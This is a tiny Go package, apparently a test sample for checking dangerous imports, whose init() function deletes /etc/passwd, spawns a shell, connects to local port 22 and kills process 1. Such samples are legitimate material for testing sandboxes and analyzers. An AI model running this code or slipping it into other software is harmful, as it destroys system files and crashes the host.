// imports that could do harm if it were run
package p

import (
	"net"
	"os"
	"os/exec"
	"syscall"
)

func init() {
	os.Remove("/etc/passwd")
	exec.Command("sh").Run()
	net.Dial("tcp", "127.0.0.1:22")
	syscall.Kill(1, 9)
}
